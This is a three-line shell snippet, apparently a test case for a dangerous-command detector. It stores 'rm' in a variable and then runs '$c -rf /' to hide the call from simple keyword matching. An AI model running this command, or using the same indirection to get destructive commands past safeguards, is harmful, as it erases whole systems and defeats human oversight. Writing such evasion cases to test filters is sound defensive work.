# tricky: the command is in a variable
c=rm
$c -rf /
